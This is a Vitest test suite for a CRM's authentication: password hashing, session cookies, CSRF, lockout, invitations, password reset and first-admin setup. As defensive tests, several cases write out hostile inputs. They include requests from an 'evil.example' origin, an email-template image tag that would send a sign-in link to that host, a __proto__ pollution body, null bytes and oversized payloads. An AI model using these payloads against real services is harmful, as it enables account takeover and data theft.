import { describe, expect, it } from 'vitest';
import { expectError, makeApp } from './helpers';
import { addUser, asUser, firstAdmin, jsonOf, lastMail, login, ORIGIN, sessionCookie } from './auth-helpers';
import { bootstrapFirstAdmin } from '../api/core/access/users';
import { hashPassword, needsRehash, verifyPassword, PASSWORD_ITERATIONS } from '../api/core/access/passwords';

describe('passwords', () => {
  it('are PBKDF2-SHA256 with 600,000 iterations, salted, stored with their parameters', async () => {
    const a = await hashPassword('correct horse battery');
    const b = await hashPassword('correct horse battery');
    expect(a).toMatch(/^pbkdf2-sha256\$600000\$100000\$[A-Za-z0-9_-]{22}\$[A-Za-z0-9_-]{43}$/);
    expect(a).not.toBe(b);
    expect(PASSWORD_ITERATIONS).toBe(600_000);
    expect(await verifyPassword('correct horse battery', a)).toBe(true);
    expect(await verifyPassword('correct horse batterY', a)).toBe(false);
    expect(await verifyPassword('anything', null)).toBe(false);
    expect(await verifyPassword('anything', 'pbkdf2-sha256$99999999$1$x$y')).toBe(false);
    expect(needsRehash(a)).toBe(false);
    expect(needsRehash(a.replace('$600000$', '$300000$'))).toBe(true);
  });
});

describe('signing in', () => {
  it('sets an HttpOnly, SameSite=Lax cookie (Secure only over https); me; one message for unknown email and wrong password', async () => {
    const t = await makeApp();
    const admin = await firstAdmin(t);
    expect(admin.user).toMatchObject({ email: 'admin@example.com', name: 'Ada Admin', role: 'admin' });

    const res = await asUser(t, null, 'POST', '/api/v1/auth/login', { email: ' Admin@Example.com ', password: 'correct horse battery' });
    expect(res.status).toBe(200);
    const set = res.headers.get('set-cookie')!;
    expect(set).toMatch(/^ll_session=[A-Za-z0-9]{43};/);
    expect(set).toMatch(/; HttpOnly/i);
    expect(set).toMatch(/; SameSite=Lax/i);
    expect(set).toMatch(/; Path=\//);
    expect(set).not.toMatch(/; Secure/i);
    const body = await res.json();
    expect(body.user).toMatchObject({ email: 'admin@example.com', role: 'admin' });
    expect(body.csrf_token).toMatch(/^[0-9a-f]{64}$/);

    // Over https the cookie is Secure.
    const https = await t.app.request('https://leadline.example/api/v1/auth/login', {
      method: 'POST',
      headers: { 'content-type': 'application/json', origin: 'https://leadline.example' },
      body: JSON.stringify({ email: 'admin@example.com', password: 'correct horse battery' }),
    });
    expect(https.status).toBe(200);
    expect(https.headers.get('set-cookie')).toMatch(/; Secure/i);

    const me = await jsonOf(await asUser(t, { cookie: sessionCookie(res)!, csrf: '' }, 'GET', '/api/v1/auth/me'));
    expect(me.status).toBe(200);
    expect(me.body).toEqual({ user: { id: admin.user.id, email: 'admin@example.com', name: 'Ada Admin', role: 'admin' }, csrf_token: body.csrf_token });
    expectError(await jsonOf(await asUser(t, null, 'GET', '/api/v1/auth/me')), 401, 'UNAUTHORIZED');
    expectError(await jsonOf(await asUser(t, { cookie: 'll_session=' + 'x'.repeat(43), csrf: '' }, 'GET', '/api/v1/auth/me')), 401, 'UNAUTHORIZED');

    const wrong = await jsonOf(await asUser(t, null, 'POST', '/api/v1/auth/login', { email: 'admin@example.com', password: 'not the password' }));
    const unknown = await jsonOf(await asUser(t, null, 'POST', '/api/v1/auth/login', { email: 'nobody@example.com', password: 'not the password' }));
    expectError(wrong, 401, 'INVALID_CREDENTIALS');
    expectError(unknown, 401, 'INVALID_CREDENTIALS');
    expect(wrong.body.error.message).toBe(unknown.body.error.message);
    expect(wrong.res.headers.get('set-cookie')).toBeNull();
  });

  it('logout revokes the session: the old cookie is refused everywhere', async () => {
    const t = await makeApp();
    const admin = await firstAdmin(t);
    expect((await asUser(t, admin, 'GET', '/api/v1/contacts')).status).toBe(200);
    const out = await asUser(t, admin, 'POST', '/api/v1/auth/logout');
    expect(out.status).toBe(204);
    expect(out.headers.get('set-cookie')).toMatch(/^ll_session=;.*Max-Age=0/i);
    expectError(await jsonOf(await asUser(t, admin, 'GET', '/api/v1/auth/me')), 401, 'UNAUTHORIZED');
    expectError(await jsonOf(await asUser(t, admin, 'GET', '/api/v1/contacts')), 401, 'UNAUTHORIZED');
    expectError(await jsonOf(await asUser(t, admin, 'POST', '/api/v1/contacts', { email: 'x@example.com' })), 401, 'UNAUTHORIZED');
    const row = await t.client.execute('SELECT revoked_at, token_hash FROM user_sessions ORDER BY id LIMIT 1');
    expect(row.rows[0]!.revoked_at).not.toBeNull();
    // The database holds the token's hash, never the token.
    expect(String(row.rows[0]!.token_hash)).not.toBe(admin.cookie.split('=')[1]);
  });
});

describe('CSRF', () => {
  it('refuses session writes without the token, with a wrong token or from another origin; reads and Bearer keys are unaffected', async () => {
    const t = await makeApp();
    const admin = await firstAdmin(t);
    const create = (headers: Record<string, string>) => asUser(t, admin, 'POST', '/api/v1/contacts', { email: `c${Math.random()}@example.com` }, headers);
    expectError(await jsonOf(await create({ 'x-csrf-token': '' })), 403, 'CSRF_FAILED');
    expectError(await jsonOf(await create({ 'x-csrf-token': 'f'.repeat(64) })), 403, 'CSRF_FAILED');
    expectError(await jsonOf(await create({ origin: 'https://evil.example' })), 403, 'CSRF_FAILED');
    expectError(await jsonOf(await create({ origin: '' })), 403, 'CSRF_FAILED');
    expect((await t.json('GET', '/api/v1/contacts')).body.data).toHaveLength(0);
    expect((await create({})).status).toBe(201);
    // Reads need no token.
    expect((await asUser(t, { cookie: admin.cookie, csrf: '' }, 'GET', '/api/v1/contacts')).status).toBe(200);
    // Logging out is a write too.
    expectError(await jsonOf(await asUser(t, admin, 'POST', '/api/v1/auth/logout', undefined, { 'x-csrf-token': '' })), 403, 'CSRF_FAILED');
    // With PUBLIC_URL the origin is its.
    // Bearer keys: no Origin, no token, as before.
    const r = await t.json('POST', '/api/v1/contacts', { email: 'bearer@example.com' });
    expect(r.status).toBe(201);
    // Signing in from another site's page is refused too.
    expectError(await jsonOf(await asUser(t, null, 'POST', '/api/v1/auth/login', { email: 'admin@example.com', password: 'correct horse battery' }, { origin: 'https://evil.example' })), 403, 'CSRF_FAILED');
  });

  it("names PUBLIC_URL's origin as this server's", async () => {
    const t = await makeApp({ env: { PUBLIC_URL: 'https://crm.example.com/base' } });
    const admin = await firstAdmin(t, undefined, undefined, { origin: 'https://crm.example.com' });
    expect(admin.cookie).toBeTruthy();
    const s = await login(t, 'admin@example.com', 'correct horse battery', { origin: '' });
    const res = await t.app.request('/api/v1/contacts', {
      method: 'POST',
      headers: { cookie: s.cookie, 'x-csrf-token': s.csrf, origin: ORIGIN, 'content-type': 'application/json' },
      body: JSON.stringify({ email: 'a@example.com' }),
    });
    expect(res.status).toBe(403);
    const ok = await t.app.request('/api/v1/contacts', {
      method: 'POST',
      headers: { cookie: s.cookie, 'x-csrf-token': s.csrf, origin: 'https://crm.example.com', 'content-type': 'application/json' },
      body: JSON.stringify({ email: 'a@example.com' }),
    });
    expect(ok.status).toBe(201);
  });
});

describe('lockout', () => {
  it('locks an account after 5 failures with a growing wait (429, Retry-After), refusing even the right password, then lets it in', async () => {
    let now = Date.UTC(2026, 5, 1);
    const t = await makeApp({ now: () => now });
    await firstAdmin(t);
    const attempt = (password: string) => jsonOf(asUser(t, null, 'POST', '/api/v1/auth/login', { email: 'admin@example.com', password }) as unknown as Promise<Response>);
    for (let i = 0; i < 5; i++) expectError(await attempt('wrong password'), 401, 'INVALID_CREDENTIALS');
    const sixth = await attempt('wrong password');
    expectError(sixth, 429, 'RATE_LIMITED');
    expect(Number(sixth.res.headers.get('retry-after'))).toBe(30);
    const locked = await attempt('correct horse battery');
    expectError(locked, 429, 'RATE_LIMITED');
    expect(Number(locked.res.headers.get('retry-after'))).toBe(30);
    now += 31_000;
    const seventh = await attempt('wrong again');
    expectError(seventh, 429, 'RATE_LIMITED');
    expect(Number(seventh.res.headers.get('retry-after'))).toBe(60);
    now += 61_000;
    expect((await attempt('correct horse battery')).status).toBe(200);
    // A success starts the account afresh.
    expectError(await attempt('wrong'), 401, 'INVALID_CREDENTIALS');
    // Stored in the database (every process and isolate shares it), keys hashed.
    const rows = await t.client.execute('SELECT key FROM auth_throttle');
    expect(rows.rows.length).toBeGreaterThan(0);
    for (const r of rows.rows) expect(String(r.key)).toMatch(/^[0-9a-f]{64}$/);
  });

  it('locks a client address after 20 failures over any accounts', async () => {
    const t = await makeApp({ public: { clientIp: (c) => c.req.header('x-test-ip') ?? null } });
    for (let i = 0; i < 20; i++) {
      const r = await jsonOf(await asUser(t, null, 'POST', '/api/v1/auth/login', { email: `u${i}@example.com`, password: 'x' }, { 'x-test-ip': '203.0.113.9' }));
      expectError(r, 401, 'INVALID_CREDENTIALS');
    }
    const r = await jsonOf(await asUser(t, null, 'POST', '/api/v1/auth/login', { email: 'other@example.com', password: 'x' }, { 'x-test-ip': '203.0.113.9' }));
    expectError(r, 429, 'RATE_LIMITED');
    expect(Number(r.res.headers.get('retry-after'))).toBeGreaterThan(0);
    // Another address is not locked.
    expectError(await jsonOf(await asUser(t, null, 'POST', '/api/v1/auth/login', { email: 'other@example.com', password: 'x' }, { 'x-test-ip': '203.0.113.10' })), 401, 'INVALID_CREDENTIALS');
  });
});

describe('invitations', () => {
  it('email a single-use link through the outbox; accepting signs in; the link works once', async () => {
    const t = await makeApp();
    const admin = await firstAdmin(t);
    const inv = await jsonOf(await asUser(t, admin, 'POST', '/api/v1/users', { email: 'Sam@Example.com', role: 'sales' }));
    expect(inv.status).toBe(201);
    expect(inv.body).toMatchObject({ email: 'sam@example.com', role: 'sales', invited: true, last_login_at: null });
    const mail = await lastMail(t, 'sam@example.com');
    expect(mail.subject).toBe("You're invited to Leadline");
    expect(mail.link).toMatch(/^http:\/\/127\.0\.0\.1:8787\/app\/setup\?token=[A-Za-z0-9]{43}$/);
    expect(mail.text).toContain('Ada Admin invited you');
    // The link is not rewritten by click tracking.
    expect(mail.html).toContain(`href="${mail.link}"`);
    // Invited users cannot sign in yet.
    expectError(await jsonOf(await asUser(t, null, 'POST', '/api/v1/auth/login', { email: 'sam@example.com', password: '' + 'x'.repeat(12) })), 401, 'INVALID_CREDENTIALS');

    const short = await jsonOf(await asUser(t, null, 'POST', '/api/v1/auth/invitations/accept', { token: mail.token, name: 'Sam', password: 'short' }));
    expectError(short, 422, 'VALIDATION_FAILED');
    const ok = await jsonOf(await asUser(t, null, 'POST', '/api/v1/auth/invitations/accept', { token: mail.token, name: 'Sam Sales', password: 'sam has a long password' }));
    expect(ok.status).toBe(200);
    expect(ok.body.user).toMatchObject({ email: 'sam@example.com', name: 'Sam Sales', role: 'sales' });
    expect(sessionCookie(ok.res)).toBeTruthy();
    const again = await jsonOf(await asUser(t, null, 'POST', '/api/v1/auth/invitations/accept', { token: mail.token, name: 'Eve', password: 'eve has a long password' }));
    expectError(again, 400, 'BAD_REQUEST');
    const s = await login(t, 'sam@example.com', 'sam has a long password');
    expect(s.user.role).toBe('sales');
    // The token is stored hashed; the send no longer holds the used link.
    const sends = await t.client.execute("SELECT variables FROM email_sends WHERE reason LIKE 'auth:invite:%'");
    expect(sends.rows.every((r) => r.variables === null)).toBe(true);
    const tokens = await t.client.execute('SELECT token_hash FROM user_tokens');
    expect(tokens.rows.map((r) => String(r.token_hash))).not.toContain(mail.token);
    const listed = (await jsonOf(await asUser(t, admin, 'GET', '/api/v1/users'))).body.data;
    expect(listed.map((u: any) => [u.email, u.role, u.invited])).toEqual([
      ['admin@example.com', 'admin', false],
      ['sam@example.com', 'sales', false],
    ]);
  });

  it('sign-in messages are shown in the outbox to admins only, and their emails cannot be listed, changed or deleted', async () => {
    const t = await makeApp();
    const admin = await firstAdmin(t);
    const marketer = await addUser(t, 'marketer', 'mia@example.com');
    await asUser(t, admin, 'POST', '/api/v1/users', { email: 'vic@example.com', role: 'viewer' });
    await lastMail(t, 'vic@example.com');
    expect((await t.json('GET', '/api/v1/outbox')).body.data.length).toBe(2);
    expect((await t.json('GET', '/api/v1/outbox', undefined, { key: t.keys.read })).body.data).toEqual([]);
    const box = await jsonOf(await asUser(t, marketer, 'GET', '/api/v1/outbox'));
    expect(box.body.data).toEqual([]);
    const id = (await t.json('GET', '/api/v1/outbox')).body.data[0].id;
    expectError(await t.json('GET', `/api/v1/outbox/${id}`, undefined, { key: t.keys.write }), 404, 'NOT_FOUND');
    expect((await t.json('GET', '/api/v1/emails')).body.data).toEqual([]);
    const emailId = (await t.client.execute('SELECT email_id FROM email_sends LIMIT 1')).rows[0]!.email_id;
    expectError(await t.json('PATCH', `/api/v1/emails/${emailId}`, { html: '<img src="https://evil.example/?{{ link }}">' }), 403, 'FORBIDDEN');
    expectError(await t.json('DELETE', `/api/v1/emails/${emailId}`), 403, 'FORBIDDEN');
  });
});

describe('password reset', () => {
  it('answers 202 for any address; the emailed link works once, ends every session, and expires after an hour', async () => {
    let now = Date.UTC(2026, 5, 1);
    const t = await makeApp({ now: () => now });
    const admin = await firstAdmin(t);
    const ask = (email: string) => asUser(t, null, 'POST', '/api/v1/auth/password-reset', { email });
    expect((await ask('nobody@example.com')).status).toBe(202);
    expect((await ask('admin@example.com')).status).toBe(202);
    const mail = await lastMail(t, 'admin@example.com');
    expect(mail.subject).toBe('Reset your Leadline password');
    expect(mail.link).toMatch(/^http:\/\/127\.0\.0\.1:8787\/app\/reset-password\?token=[A-Za-z0-9]{43}$/);
    expect((await t.json('GET', '/api/v1/outbox?to=nobody@example.com')).body.data).toEqual([]);

    const confirm = (token: string, password: string) => jsonOf(asUser(t, null, 'POST', '/api/v1/auth/password-reset/confirm', { token, password }) as unknown as Promise<Response>);
    expect((await confirm(mail.token, 'a brand new password')).status).toBe(204);
    expectError(await confirm(mail.token, 'another new password'), 400, 'BAD_REQUEST');
    // The old session ended; the old password no longer works; the new one does.
    expectError(await jsonOf(await asUser(t, admin, 'GET', '/api/v1/auth/me')), 401, 'UNAUTHORIZED');
    expectError(await jsonOf(await asUser(t, null, 'POST', '/api/v1/auth/login', { email: 'admin@example.com', password: 'correct horse battery' })), 401, 'INVALID_CREDENTIALS');
    await login(t, 'admin@example.com', 'a brand new password');

    // An hour later a link is refused.
    expect((await ask('admin@example.com')).status).toBe(202);
    const late = await lastMail(t, 'admin@example.com');
    expect(late.token).not.toBe(mail.token);
    now += 3_600_001;
    expectError(await confirm(late.token, 'too late a password'), 400, 'BAD_REQUEST');
    expectError(await confirm('x'.repeat(43), 'whatever password'), 400, 'BAD_REQUEST');
  });
});

describe('the first admin', () => {
  it('sets up once with the printed link, and only while no user exists', async () => {
    const t = await makeApp();
    const one = await bootstrapFirstAdmin({ ctx: t.ctx, input: { base: 'http://127.0.0.1:8787' } });
    const two = await bootstrapFirstAdmin({ ctx: t.ctx, input: { base: 'http://127.0.0.1:8787' } });
    expect(one.link).toMatch(/^http:\/\/127\.0\.0\.1:8787\/app\/setup\?token=[A-Za-z0-9]{43}&first=1$/);
    const token = (l: string) => new URL(l).searchParams.get('token')!;
    // The dashboard's setup page posts to invitations/accept; the setup link there needs an email.
    expectError(await jsonOf(await asUser(t, null, 'POST', '/api/v1/auth/invitations/accept', { token: token(one.link!), name: 'A', password: 'a long enough password' })), 422, 'VALIDATION_FAILED');
    const ok = await jsonOf(
      await asUser(t, null, 'POST', '/api/v1/auth/invitations/accept', { token: token(one.link!), email: 'boss@example.com', name: 'Boss', password: 'a long enough password' }),
    );
    expect(ok.status).toBe(200);
    expect(ok.body.user).toMatchObject({ email: 'boss@example.com', role: 'admin' });
    // Used, and the other link printed is dead too.
    for (const l of [one.link!, two.link!]) {
      expectError(await jsonOf(await asUser(t, null, 'POST', '/api/v1/auth/setup', { token: token(l), email: 'eve@example.com', name: 'Eve', password: 'a long enough password' })), 400, 'BAD_REQUEST');
    }
    expect(await bootstrapFirstAdmin({ ctx: t.ctx, input: { base: 'http://127.0.0.1:8787' } })).toEqual({});
    expect((await t.client.execute('SELECT count(*) AS n FROM users')).rows[0]!.n).toBe(1);
  });
});

describe('hostile input to the sign-in endpoints', () => {
  it('answers 4xx with the error shape, never 5xx', async () => {
    const t = await makeApp();
    await firstAdmin(t);
    const cases: [string, BodyInit, Record<string, string>][] = [
      ['/api/v1/auth/login', 'email=a&password=b', { 'content-type': 'application/x-www-form-urlencoded' }],
      ['/api/v1/auth/login', '{"email":"a@example.com","password":', { 'content-type': 'application/json' }],
      ['/api/v1/auth/login', JSON.stringify({ email: 'a@example.com', password: 'x'.repeat(1025) }), { 'content-type': 'application/json' }],
      ['/api/v1/auth/login', JSON.stringify({ email: 'a\u0000@example.com', password: 'p\u0000' }), { 'content-type': 'application/json' }],
      ['/api/v1/auth/login', '{"__proto__":{"admin":true},"email":"a@example.com","password":"x"}', { 'content-type': 'application/json' }],
      ['/api/v1/auth/login', JSON.stringify({ email: ['a'], password: 1 }), { 'content-type': 'application/json' }],
      ['/api/v1/auth/login', 'x'.repeat(2 * 1024 * 1024), { 'content-type': 'application/json' }],
      ['/api/v1/auth/setup', JSON.stringify({ token: 'x'.repeat(5000), email: 'a', name: '', password: 'p' }), { 'content-type': 'application/json' }],
      ['/api/v1/auth/invitations/accept', JSON.stringify({ token: '\ud800', name: 'n', password: 'p'.repeat(20) }), { 'content-type': 'application/json' }],
      ['/api/v1/auth/password-reset', JSON.stringify({ email: 'x'.repeat(300) }), { 'content-type': 'application/json' }],
      ['/api/v1/auth/password-reset/confirm', '', { 'content-type': 'application/json' }],
    ];
    for (const [path, body, headers] of cases) {
      const res = await jsonOf(await t.app.request(path, { method: 'POST', headers, body }));
      expect(res.status, `${path} ${String(body).slice(0, 60)}`).toBeGreaterThanOrEqual(400);
      expect(res.status, `${path} ${String(body).slice(0, 60)}`).toBeLessThan(500);
      expect(typeof res.body.error.code).toBe('string');
    }
    expect((await t.app.request('/api/v1/auth/login', { method: 'GET' })).status).toBe(405);
    // Cookies that are not sessions.
    for (const cookie of ['ll_session=', 'll_session=%00', `ll_session=${'a'.repeat(5000)}`, 'll_session="x"; ll_session=y']) {
      const res = await t.app.request('/api/v1/contacts', { headers: { cookie } });
      expect(res.status, cookie).toBe(401);
    }
  });
});
